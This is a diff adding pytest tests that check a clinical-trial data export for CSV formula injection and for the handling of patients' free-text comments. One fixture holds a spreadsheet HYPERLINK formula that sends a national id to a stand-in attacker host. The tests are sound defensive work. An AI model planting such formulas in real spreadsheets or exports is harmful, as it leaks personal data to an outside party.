@@ -427,3 +427,128 @@ def test_an_export_with_no_patient_in_it_has_the_tables_and_no_rows(api_as, fmt)
     assert f"doses_daily.{fmt}" in names
     if fmt == "csv":
         assert tables_of(data)["doses_daily"] == []
+
+
+# --- free text and formulas (issue 18) -------------------------------------------------------
+
+# A comment as one was found in an export: a name, a national id and a formula.
+NASTY = '=HYPERLINK("https://evil.example/?id=01018012345","Ola Nordmann")'
+
+
+@pytest.fixture
+def commented(trial, instrument, staff):
+    """The trial, with a free-text comment and a negative whole number on the current
+    baseline response."""
+    made, _days, _housing = instrument
+    comment = Item.objects.create(
+        instrument=made,
+        code="test_comment",
+        order=3,
+        text_nb="Kommentar",
+        text_en="Comment",
+        type="text",
+        required=False,
+    )
+    change = Item.objects.create(
+        instrument=made,
+        code="test_change",
+        order=4,
+        text_nb="Endring",
+        text_en="Change",
+        type="integer",
+        min_value=-10,
+        max_value=10,
+    )
+    current = Response.objects.get(corrected_by__isnull=True, instrument=made)
+    Answer.objects.create(response=current, item=comment, value_text=NASTY)
+    Answer.objects.create(response=current, item=change, value_int=-3)
+    return trial
+
+
+def every_file(data: bytes) -> str:
+    archive = zipfile.ZipFile(io.BytesIO(data))
+    return "\n".join(archive.read(name).decode() for name in archive.namelist())
+
+
+@pytest.mark.parametrize("fmt", ["csv", "fhir"])
+def test_free_text_is_left_out_unless_asked_for(commented, api_as, fmt):
+    data, response = download(api_as("researcher.oslo"), fmt)
+
+    text = data.decode() if fmt == "fhir" else every_file(data)
+    for secret in ("HYPERLINK", "Ola Nordmann", "01018012345", "test_comment"):
+        assert secret not in text
+    assert response["X-HAB-Free-Text"] == "left-out"
+    assert "X-HAB-Warning" not in response
+    assert ExportLog.objects.get().free_text is False
+
+
+def test_free_text_asked_for_is_in_the_csv_as_text_never_as_a_formula(commented, api_as):
+    data, response = download(api_as("researcher.oslo"), free_text="true")
+
+    tables = tables_of(data)
+    (wide,) = tables["responses_wide"]
+    assert wide["test_comment"] == "'" + NASTY
+    (long,) = [row for row in tables["responses_long"] if row["item"] == "test_comment"]
+    assert long["text"] == "'" + NASTY
+    # and it is logged and warned about, in the answer and in the README
+    assert ExportLog.objects.get().free_text is True
+    assert response["X-HAB-Free-Text"] == "included"
+    assert "national id" in response["X-HAB-Warning"]
+    readme = zipfile.ZipFile(io.BytesIO(data)).read("README.md").decode()
+    assert "WARNING: Free-text answers are included" in readme
+    assert "ADVARSEL" in readme
+
+
+def test_a_negative_number_stays_a_number_in_the_csv(commented, api_as):
+    data, _response = download(api_as("researcher.oslo"))
+
+    tables = tables_of(data)
+    (wide,) = tables["responses_wide"]
+    assert wide["test_change"] == "-3"
+    (long,) = [row for row in tables["responses_long"] if row["item"] == "test_change"]
+    assert long["value"] == "-3"
+
+
+def test_no_cell_of_any_csv_starts_a_formula(commented, api_as):
+    data, _response = download(api_as("researcher.oslo"), free_text="true")
+
+    archive = zipfile.ZipFile(io.BytesIO(data))
+    for name in archive.namelist():
+        if not name.endswith(".csv"):
+            continue
+        for row in csv.reader(io.StringIO(archive.read(name).decode(), newline="")):
+            for cell in row:
+                # a number may be negative; text may not start a formula
+                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (name, cell)
+                assert not cell.startswith("-") or cell.lstrip("-").replace(".", "").isdigit()
+
+
+def test_the_fhir_bundle_has_the_comment_only_when_asked_for(commented, api_as):
+    data, _response = download(api_as("researcher.oslo"), "fhir", free_text="true")
+
+    bundle = Bundle.model_validate_json(data)
+    answers = [
+        item.answer[0].valueString
+        for entry in bundle.entry
+        if entry.resource.get_resource_type() == "QuestionnaireResponse"
+        for item in entry.resource.item
+        if item.linkId == "test_comment"
+    ]
+    assert answers == [NASTY]
+    assert ExportLog.objects.get().free_text is True
+
+
+def test_the_export_page_asks_for_free_text_with_a_warning_and_logs_it(commented, web_as):
+    client = web_as("researcher.oslo")
+
+    page = client.get("/research/export/", HTTP_ACCEPT_LANGUAGE="en").content.decode()
+    plain = client.get("/research/export/?format=csv")
+    asked = client.get("/research/export/?format=csv&free_text=1")
+    after = client.get("/research/export/", HTTP_ACCEPT_LANGUAGE="en").content.decode()
+
+    assert 'name="free_text"' in page
+    assert "may name the patient or others, or hold a national id" in page
+    assert "HYPERLINK" not in every_file(b"".join(plain.streaming_content))
+    assert "HYPERLINK" in every_file(b"".join(asked.streaming_content))
+    assert [log.free_text for log in ExportLog.objects.order_by("pk")] == [False, True]
+    assert "Included" in after and "Left out" in after
